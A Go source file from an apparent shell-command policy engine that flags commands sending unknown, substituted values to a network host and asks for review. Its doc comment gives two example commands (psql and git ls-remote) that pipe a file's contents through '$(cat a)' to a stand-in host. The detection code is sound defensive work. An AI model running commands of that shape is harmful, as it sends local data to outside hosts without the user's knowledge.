package engine

import (
	"slices"
	"strings"

	"github.com/bashgate/bashgate/internal/match"
	"github.com/bashgate/bashgate/policy"
)

// sends judges the words of a command that talks to a machine which the line
// names: what is not known of them may go there. Where a rule asks, it asks about
// all of the command.
//
//	psql -h x.example -U "$(cat a)"
//	git ls-remote -o "$(cat a)" https://x.example/y
func (j *judge) sends(n *Node, c *match.Call) {
	if len(n.talks) == 0 || slices.ContainsFunc(c.Held, func(h match.Held) bool { return h.Decision > policy.Allow }) {
		return
	}
	for _, w := range n.command.Words[1:] {
		if !tells(w) || meant(c, w) {
			continue
		}
		n.reason("shell.hole", policy.Ask, "Sends what is not known over the network: "+w.String(), policy.Network, policy.ReachNetwork)
		return
	}
}

// tells reports whether a word holds a value that is not known and may be any
// text.
func tells(w policy.Word) bool {
	for _, p := range w.Parts {
		if (p.Kind == policy.Hole || p.Kind == policy.Split) && p.Shape == policy.ShapeAny {
			return true
		}
	}
	return false
}

// meant reports whether a word, or the value at its end, means something that
// is judged by itself: a file, a command, or what is sent.
func meant(c *match.Call, w policy.Word) bool {
	text := w.String()
	for i := range c.Uses {
		u := &c.Uses[i]
		if u.Kind != match.Name && strings.HasSuffix(text, u.Word.String()) && u.Word.HasHole() {
			return true
		}
		for _, inner := range u.Words {
			if inner.String() == text {
				return true
			}
		}
	}
	return false
}
